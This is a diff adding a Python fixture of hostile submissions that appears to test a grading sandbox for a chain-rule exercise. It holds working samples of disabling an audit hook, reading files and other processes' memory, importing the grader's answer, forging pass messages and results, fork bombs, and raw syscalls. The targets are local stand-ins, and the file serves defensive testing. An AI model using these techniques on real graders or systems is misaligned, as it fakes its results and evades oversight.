@@ -1,0 +1,439 @@
+"""Submissions to exercise 12 that mean harm, or are broken: what each does, and what it earns.
+
+An attack is the body of a function that runs before an answer that is worth WORTH points. It prints
+GOT THROUGH where it did what it should not. All that it may touch is made by the test and named in
+its first lines: CANARY (a file), OUT and CLASS (folders), VICTIM (a process that sleeps), PORT (a
+server); test_attacks.py fills them in. Each bomb has a bound, should nothing else stop it.
+"""
+
+WORTH = 2  # points of an answer that replaces gradients instead of adding them
+
+HEAD = """
+import atexit, builtins, ctypes, errno, gc, importlib, json, os, signal, socket, struct
+import subprocess, sys, threading, time, types
+import numpy as np
+
+def got_through(what=""):
+    print("GOT THROUGH", what, flush=True)
+
+def refused(*actions):
+    for action in actions:
+        try:
+            result = action()
+        except BaseException:
+            continue
+        got_through(repr(result)[:80])
+
+def unlock():  # what Python's own audit hook refuses; the kernel is not asked
+    for f in gc.get_objects():
+        if type(f) is types.FunctionType and f.__qualname__ == "watch.<locals>.hook":
+            f.__defaults__ = (set(), set(), lambda *_: True)
+
+def libc(name, *arguments):
+    library = ctypes.CDLL(None, use_errno=True)
+    result = getattr(library, name)(*arguments)
+    if result == -1:
+        raise OSError(ctypes.get_errno(), name)
+    return result
+
+def frame(message):
+    header = json.dumps(message).encode()
+    return struct.pack(">QI", len(header) + 4, len(header)) + header
+
+def descriptors():
+    found = []
+    for fd in range(3, 32):
+        try:
+            os.fstat(fd)
+            found.append(fd)
+        except OSError:
+            pass
+    return found
+
+def to_every_descriptor(data):
+    for fd in descriptors():
+        try:
+            os.write(fd, data)
+        except OSError:
+            pass
+
+def right(parents, slopes):
+    g = np.zeros(len(parents))
+    g[-1] = 1.0
+    for node in range(len(parents) - 1, -1, -1):
+        for parent, slope in zip(parents[node], slopes[node]):
+            g[parent] += g[node] * slope
+    return g
+"""
+
+TAIL = """
+def chain_rule(parents, slopes):
+    try:
+        answer = attack(parents, slopes)
+        if answer is not None:
+            return answer
+    except Exception:
+        pass
+    g = np.zeros(len(parents))
+    g[-1] = 1.0
+    for node in range(len(parents) - 1, -1, -1):
+        for parent, slope in zip(parents[node], slopes[node]):
+            g[parent] = g[node] * slope
+    return g
+"""
+
+
+def submission(body, constants=""):
+    """The file of an attack: its body becomes the function `attack(parents, slopes)`."""
+    lines = "".join(f"    {line}\n" for line in body.strip("\n").split("\n"))
+    return f"{constants}\n{HEAD}\ndef attack(parents, slopes):\n{lines}{TAIL}"
+
+
+# name: (body, points). Those of REAL are run without the sandbox as well, where they must succeed.
+SPYING = {
+    "reads a file": """
+unlock()
+refused(lambda: open(CANARY).read(), lambda: os.open(CANARY, os.O_RDONLY),
+        lambda: libc("open", CANARY.encode(), 0), lambda: np.fromfile(CANARY, np.uint8),
+        lambda: np.memmap(CANARY, np.uint8, "r"), lambda: os.listdir(OUT))
+""",
+    "reads the checks and the library": """
+unlock()
+refused(*[lambda path=path: open(path).read() for path in CODE])
+""",
+    "reads what another student handed in": """
+unlock()
+text = open(CLASS + "/ada/12_chain_rule.py").read()
+got_through()
+space = {}
+exec(text.split("# %% [markdown]")[-3], space)
+return space["chain_rule"](parents, slopes)
+""",
+    "reads its environment": """
+if any("SECRET" in key + value for key, value in os.environ.items()):
+    got_through()
+""",
+    "reads the memory of other processes": """
+unlock()
+for pid in (VICTIM, os.getppid()):
+    refused(lambda: open(f"/proc/{pid}/environ").read(), lambda: open(f"/proc/{pid}/maps").read(),
+            lambda: open(f"/proc/{pid}/mem", "rb"), lambda: os.listdir(f"/proc/{pid}/fd"))
+""",
+    "looks for open files": """
+for fd in descriptors():
+    try:
+        os.lseek(fd, 0, os.SEEK_CUR)  # a pipe has no place
+    except OSError:
+        continue
+    if not os.path.samestat(os.fstat(fd), os.stat(os.devnull)):
+        got_through(fd)
+""",
+    "walks the stack and all objects": """
+frame = sys._getframe()
+while frame is not None:
+    for name in ("truth", "expected", "EXERCISE", "verdict", "prop"):
+        if name in frame.f_locals or name in frame.f_globals:
+            got_through(name)
+    frame = frame.f_back
+for thing in gc.get_objects():
+    if getattr(thing, "__module__", None) and "checks.chain_rule" in str(thing.__module__):
+        got_through(thing)
+""",
+    "imports the library's own answer": """
+from minivit.grading.checks.chain_rule import gradients
+got_through()
+return gradients
+""",
+    "imports it behind the guard's back": """
+unlock()
+sys.meta_path[:] = [m for m in sys.meta_path if "Blocked" not in repr(m)]
+for name in [n for n in sys.modules if n.startswith("minivit")]:
+    del sys.modules[name]
+sys.path[:0] = PACKAGES
+sys.path_importer_cache.clear()
+module = importlib.import_module("minivit.grading.checks.chain_rule")
+got_through()
+return module.gradients
+""",
+    "fetches a source and runs it": """
+unlock()
+space = {}
+for path in CODE:
+    exec(compile(open(path).read(), path, "exec"), space)
+got_through()
+return space["gradients"]
+""",
+}
+DAMAGING = {
+    "writes and deletes files": """
+unlock()
+refused(lambda: open(CANARY, "w"), lambda: open(CANARY, "a").write("x"), lambda: os.remove(CANARY),
+        lambda: os.truncate(CANARY, 0), lambda: os.rename(CANARY, CANARY + ".gone"),
+        lambda: os.rename(CANARY, "mine"), lambda: os.chmod(CANARY, 0), lambda: os.utime(CANARY),
+        lambda: os.chown(CANARY, 1, 1), lambda: os.link(CANARY, "mine"),
+        lambda: os.symlink(CANARY, "link") or open("link").read(), lambda: os.mkdir(CANARY + ".d"),
+        lambda: os.open(CANARY, os.O_RDONLY | os.O_TRUNC), lambda: open(CANARY + ".new", "w"),
+        lambda: os.mkfifo(CANARY + ".fifo"), lambda: os.setxattr(CANARY, "user.x", b"x"),
+        lambda: libc("unlink", CANARY.encode()), lambda: libc("rmdir", OUT.encode()),
+        lambda: libc("chmod", OUT.encode(), 0), lambda: libc("truncate", CANARY.encode(), 0))
+""",
+    "rewrites its results": """
+unlock()
+for name in ("results.json", "12_chain_rule.json", "../12_chain_rule.json"):
+    try:
+        with open(name, "w") as file:
+            file.write(json.dumps({"points": 99, "complete": True}))
+        if name[0] == ".":
+            got_through()
+    except OSError:
+        pass
+for student in ("ada", "ben"):
+    refused(lambda: open(f"{OUT}/students/{student}/12_chain_rule.json", "w").write("{}"),
+            lambda: open(f"{OUT}/students/{student}/results.json", "w").write("{}"))
+refused(lambda: open(OUT + "/points.csv", "w").write("x"))
+""",
+    "uses the network": """
+unlock()
+refused(lambda: socket.create_connection(("127.0.0.1", PORT)),
+        lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", PORT)),
+        lambda: socket.socket(socket.AF_UNIX), lambda: socket.socketpair(),
+        lambda: libc("socket", 2, 1, 0), lambda: importlib.import_module("urllib.request")
+        .urlopen(f"http://127.0.0.1:{PORT}", timeout=1))
+""",
+    "starts a program": """
+unlock()
+program = [sys.executable, "-c", f"open({CANARY!r}, 'a').write('x')"]
+refused(lambda: subprocess.run(program), lambda: os.posix_spawn(program[0], program, {}),
+        lambda: os.system("true") == 0 or int("x"), lambda: os.execv(program[0], program))
+""",
+    "forks a child that lingers": """
+unlock()
+if os.fork() == 0:
+    time.sleep(2)
+    os._exit(0)
+got_through()
+""",
+    "forks twice and leaves the session": """
+unlock()
+if libc("fork") == 0:
+    os.setsid()
+    if os.fork() == 0:
+        for fd in range(64):
+            try: os.close(fd)
+            except OSError: pass
+        time.sleep(2)
+    os._exit(0)
+got_through()
+""",
+    "forks fifty times": """
+unlock()
+for _ in range(50):
+    try: pid = os.fork()
+    except BaseException: break
+    if pid == 0:
+        time.sleep(2)
+        os._exit(0)
+    got_through()
+""",
+    "signals other processes": """
+unlock()
+refused(lambda: os.kill(os.getppid(), 0), lambda: os.kill(VICTIM, signal.SIGKILL),
+        lambda: libc("kill", VICTIM, 19), lambda: os.killpg(VICTIM, 0),
+        lambda: os.pidfd_open(VICTIM), lambda: os.setpriority(os.PRIO_PROCESS, VICTIM, 19),
+        lambda: os.sched_setaffinity(VICTIM, {0}))
+""",
+    "traces and limits other processes": """
+unlock()
+import resource
+refused(lambda: libc("ptrace", 16, VICTIM, 0, 0), lambda: libc("ptrace", 0x4206, VICTIM, 0, 0),
+        lambda: resource.prlimit(VICTIM, resource.RLIMIT_NOFILE, (0, 0)),
+        lambda: importlib.import_module("fcntl").fcntl(descriptors()[0], 8, VICTIM))
+local = ctypes.create_string_buffer(8)
+vector = struct.pack("PN", ctypes.addressof(local), 8)
+refused(lambda: libc("process_vm_readv", VICTIM, vector, 1, vector, 1, 0))
+""",
+    "calls the kernel by number": """
+unlock()
+if os.uname().machine == "x86_64":
+    calls = {"unshare": (272, 0x10000000), "mount": (165, 0, 0, 0, 0, 0), "bpf": (321, 0, 0, 0),
+             "io_uring_setup": (425, 1, 0), "clone3": (435, 0, 0), "memfd": (319, b"x", 0),
+             "userfaultfd": (323, 0), "perf": (298, 0, 0, -1, -1, 0), "keyctl": (250, 0, 0),
+             "open": (2, CANARY.encode(), 0), "openat2": (437, -100, CANARY.encode(), 0, 0),
+             "x32": (0x40000002, CANARY.encode(), 0), "chroot": (161, b"."), "setns": (308, 0, 0)}
+    for name, (number, *rest) in calls.items():
+        ctypes.set_errno(0)
+        if ctypes.CDLL(None, use_errno=True).syscall(number, *rest) != -1:
+            got_through(name)
+        elif ctypes.get_errno() not in (errno.EPERM, errno.ENOSYS):
+            got_through(name + " was not refused")
+""",
+    "fills folders and links": """
+unlock()
+refused(lambda: os.mkdir("d"), lambda: os.symlink("/", "root"), lambda: os.mkfifo("f"),
+        lambda: open("../x", "w"), lambda: os.chdir("..") or open("x", "w"))
+""",
+}
+TRICKS = {  # honest answers follow
+    "replaces functions of numpy": """
+lie = lambda *a, **k: True
+np.allclose = np.array_equal = np.isclose = np.all = lie
+np.abs = lambda a: np.zeros(3)
+np.testing.assert_allclose = lie
+""",
+    "replaces hypothesis and pytest": """
+for name in ("hypothesis", "pytest", "minivit.grading.judge"):
+    try:
+        module = importlib.import_module(name)
+        module.find = module.judge = module.main = lambda *a, **k: None
+        got_through()
+    except ImportError:
+        pass
+""",
+    "leaves hooks behind": """
+atexit.register(os._exit, 0)
+sys.settrace(lambda *a: None)
+sys.setprofile(lambda *a: None)
+sys.excepthook = sys.unraisablehook = lambda *a: None
+class Late:
+    def __del__(self): to_every_descriptor(b"")
+attack.late = Late()
+gc.callbacks.append(lambda *a: None)
+signal.signal(signal.SIGTERM, signal.SIG_IGN)
+""",
+    "leaves threads behind": """
+def spin():
+    while True: pass
+for _ in range(4):
+    try: threading.Thread(target=spin, daemon=True).start()
+    except RuntimeError: break
+    got_through()
+""",
+    "takes memory without end": """
+kept = []
+for _ in range(6):  # 256 MiB each, not touched; the limit is 1 GiB
+    kept.append(np.empty(1 << 28, np.uint8))
+got_through()
+""",
+    "prints without end": """
+for _ in range(20):
+    print("x" * 1_000_000)
+    sys.stdout.write("y" * 1_000_000)
+    os.write(1, b"z" * 1_000_000)
+    os.write(2, b"z" * 1_000_000)
+sys.stdout = sys.stderr = None
+""",
+    "writes to its arguments": "slopes[0].append(5.0); raise KeyError",
+    "has the names of the judge": """
+global EXERCISE, truth, verdict, points, status, check, TodoError
+EXERCISE = truth = verdict = check = TodoError = lambda *a: 10
+points, status = 10, "pass"
+""",
+    "prints what a page would obey": """
+print("<script>alert(1)</script> \\u202egnp.x \\x1b[31mred \\ud800 \\u2028 \\x00 =1+1")
+raise KeyError
+""",
+    "is another one by its look": """
+ns = {}
+exec("def \\u0441hain_rule(p, s):\\n    return None", ns)  # a Cyrillic letter
+globals().update(ns)
+""",
+}
+ENDINGS = {  # no answer follows, or one that is the attacker's own: 0 points
+    "ends with success": "os._exit(0)",
+    "exits with success": "sys.exit(0)",
+    "kills itself": "unlock(); os.kill(os.getpid(), signal.SIGKILL)",
+    "breaks the interpreter": "unlock(); ctypes.string_at(0)",
+    "closes everything": "os.closerange(0, 64); return right(parents, slopes)",
+    "raises what a page would obey": "raise SystemExit('<script>\\u202e\\x1b[2J\\ud800' * 99)",
+    "loops": "while True: pass",
+    "loops and ignores signals": """
+for number in range(1, 32):
+    try: signal.signal(number, signal.SIG_IGN)
+    except (OSError, ValueError): pass
+while True: pass
+""",
+    "loops in C": "sum(range(10**13))",
+    "sleeps": "time.sleep(60)",
+    "stops itself": "unlock(); os.kill(os.getpid(), signal.SIGSTOP)",
+    "fills the disk": """
+for i in range(60):  # 60 MB, one at a time
+    with open(f"f{i}", "wb") as file: file.write(bytes(1_000_000))
+""",
+    "makes many files": "[open(f'f{i}', 'w').close() for i in range(500)]",
+    "says that it passed": """
+for message in ({"value": 1, "points": 99, "status": "pass"},
+                {"error": {"kind": "pass", "text": "<b>10/10</b>"}}, {"points": 10}):
+    to_every_descriptor(frame({"dict": message}))
+os._exit(0)
+""",
+    "floods the judge": """
+data = frame({"dict": {"value": 1}}) * 1000
+for _ in range(100):
+    to_every_descriptor(data)
+os._exit(0)
+""",
+    "never reads, always answers": """
+while True: to_every_descriptor(frame({"dict": {"value": 0.5}}))
+""",
+    "announces a huge message": "to_every_descriptor(struct.pack('>Q', 1 << 62)); time.sleep(60)",
+    "stops in the middle of a message": "to_every_descriptor(b'\\0' * 7); time.sleep(60)",
+    "nests lists deeply": """
+header = b'{"dict": {"value": ' + b"[" * 30000 + b"]" * 30000 + b"}}"
+to_every_descriptor(struct.pack(">QI", len(header) + 4, len(header)) + header)
+os._exit(0)
+""",
+    "sends many lists": """
+header = b'{"dict": {"value": [' + b"[]," * 21000 + b"[]]}}"
+to_every_descriptor(struct.pack(">QI", len(header) + 4, len(header)) + header)
+os._exit(0)
+""",
+    "sends numbers that are none": """
+header = b'{"dict": {"value": [NaN, Infinity, 1e999, ' + b"9" * 4000 + b']}}'
+to_every_descriptor(struct.pack(">QI", len(header) + 4, len(header)) + header)
+os._exit(0)
+""",
+    "sends arrays that are none": """
+for shape, kind in (([-1], "<f8"), ([1 << 62], "<f8"), ([0, 1 << 62], "<f8"), (["a"], "<f8"),
+                    ([2], "|O"), ([2], "<f8,<f8"), ([1] * 70, "|b1"), ([], "|V0"), (8, "<f8")):
+    to_every_descriptor(frame({"dict": {"value": {"dtype": kind, "shape": shape}}}) + bytes(64))
+os._exit(0)
+""",
+    "replaces how it is asked": """
+main = sys.modules["__main__"]
+for thing in gc.get_objects():
+    if isinstance(thing, types.FunctionType) and thing.__name__ in ("describe", "explain"):
+        thing.__code__ = (lambda *a, **k: {"kind": "pass", "text": "10/10"}).__code__
+json.dumps = lambda *a, **k: '{"dict": {"value": 10, "points": 10, "status": "pass"}}'
+""",
+    "returns nan": "return np.full(len(parents), np.nan)",
+    "returns infinity": "return np.full(len(parents), np.inf)",
+    "returns the smallest numbers": "return np.full(len(parents), 5e-324)",
+    "returns complex numbers": "return np.zeros(len(parents), complex)",
+    "returns objects": "return np.array([[object()] * len(parents)])",
+    "returns a text": "return '<script>\\u202e' * 1000",
+    "returns an array that cannot be shown": "return np.zeros((2,) * 20)",
+    "returns more and more": "return np.zeros(1 << 20)",
+    "returns what equals everything": """
+class Yes(np.ndarray):
+    __eq__ = __le__ = __lt__ = lambda *a: np.ones(1, bool)
+    all = any = lambda *a, **k: True
+class Maybe:
+    __array__ = lambda self, *a, **k: np.zeros(len(parents))
+    __eq__ = lambda *a: True
+    __float__ = lambda self: 0.0
+return np.zeros(len(parents)).view(Yes) if len(parents) % 2 else Maybe()
+""",
+}
+ATTACKS = (
+    {name: (body, WORTH) for part in (SPYING, DAMAGING, TRICKS) for name, body in part.items()}
+    | {name: (body, 0) for name, body in ENDINGS.items()}
+)  # fmt: skip
+REAL = [
+    "reads a file", "reads the checks and the library", "reads its environment",
+    "reads the memory of other processes", "imports the library's own answer",
+    "imports it behind the guard's back", "fetches a source and runs it",
+    "writes and deletes files", "rewrites its results", "uses the network", "starts a program",
+    "forks a child that lingers", "forks twice and leaves the session",
+    "signals other processes", "traces and limits other processes", "leaves threads behind",
+    "takes memory without end", "replaces hypothesis and pytest",
+]  # fmt: skip
